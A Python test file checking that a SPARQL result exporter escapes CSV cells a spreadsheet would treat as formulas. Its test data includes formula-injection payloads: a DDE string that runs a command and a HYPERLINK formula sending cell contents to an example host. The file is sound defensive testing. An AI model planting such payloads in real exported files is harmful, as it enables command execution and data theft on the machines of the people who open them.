"""CSV results: no cell is a formula to a spreadsheet, and nothing else differs."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pyoxigraph import Literal, QueryResultsFormat, QuerySolutions

from valuegraph.processes import Spool
from valuegraph.queries.csv_cells import CellWriter
from valuegraph.queries.sparql import CSV, JSON, TSV, Query, run_query
from valuegraph.store import OxigraphStore

BASE = "https://ledger.example/"
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://example.org/?"&A1,"x")',
    "=1,2",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "-INF",
    "-5 kilogram",
    "--5",
    "+",
    "\uff1d1+1",
    '="a"\n=2',
]
HARMLESS = [
    "",
    "a",
    "a=b",
    "5",
    "-5",
    "+1.5E3",
    "-.5",
    "1.0e-7",
    "a,=b",
    'a"=b',
    "a\n=b",
    "'=1",
    "5-",
]


def rows(query: str) -> list[list[str]]:
    body = run_query(OxigraphStore(), Query(query, BASE, table=CSV)).body
    return list(csv.reader(io.StringIO(body.decode(), newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(text: str) -> None:
    value = Literal(text)
    found = rows(f"SELECT ({value} AS ?a) ({value} AS ?b) (1 AS ?c) {{ VALUES ?x {{ 1 2 }} }}")
    assert found == [["a", "b", "c"], *2 * [[f"'{text}", f"'{text}", "1"]]]


@pytest.mark.parametrize("text", HARMLESS)
def test_everything_else_is_as_it_is(text: str) -> None:
    value = Literal(text)
    assert rows(f"SELECT (1 AS ?a) ({value} AS ?b) {{}}")[1] == ["1", text]


def test_negative_numbers_stay_numbers() -> None:
    assert rows("SELECT (-5 AS ?a) (-1.5 AS ?b) (-1e3 AS ?c) {}")[1] == ["-5", "-1.5", "-1000"]


def test_other_formats_are_exact() -> None:
    query = 'SELECT ("=1" AS ?a) {}'
    assert run_query(OxigraphStore(), Query(query, BASE, table=TSV)).body == b'?a\n"=1"\n'
    assert b'"value":"=1"' in run_query(OxigraphStore(), Query(query, BASE, table=JSON)).body


@given(
    st.lists(st.lists(st.text('=+-@\t\r\n",a1;'), min_size=2, max_size=2), max_size=5),
    st.integers(1, 9),
)
def test_however_the_table_comes_in_pieces(table: list[list[str]], size: int) -> None:
    values = " ".join(f"({' '.join(str(Literal(cell)) for cell in row)})" for row in table)
    solutions = OxigraphStore().query(f"SELECT * {{ VALUES (?a ?b) {{ {values} }} }}", BASE)
    assert isinstance(solutions, QuerySolutions)
    written = solutions.serialize(format=QueryResultsFormat.CSV)
    assert written is not None
    spool = Spool(1 << 20)
    cells = CellWriter(spool)
    for start in range(0, len(written), size):
        cells.write(written[start : start + size])
    cells.finish()
    found = list(csv.reader(io.StringIO(spool.memory.decode(), newline="")))
    assert len(found) == 1 + len(table)
    for row, expected in zip(found[1:], table, strict=True):
        for cell, text in zip(row, expected, strict=True):
            assert cell in (text, f"'{text}")
            assert cell[:1] not in tuple("=+-@\t\r\n") or float(cell) is not None


def test_a_cell_of_many_pieces_takes_time_in_proportion() -> None:
    spool = Spool(1 << 30)
    cells = CellWriter(spool)
    cells.write(b'a\r\n"')
    for _ in range(4000):
        cells.write(b"=\n" * 4096)
    cells.write(b'"\r\n')
    cells.finish()
    size = spool.size
    spool.close()
    assert size == len('a\r\n"') + len("'") + 4000 * 8192 + len('"\r\n')


def test_iris_are_cells_too() -> None:
    store = OxigraphStore()
    body = run_query(
        store, Query("SELECT (STR(<urn:a>) AS ?a) (<urn:=a> AS ?b) {}", BASE, table=CSV)
    )
    assert body.body == b"a,b\r\nurn:a,urn:=a\r\n"
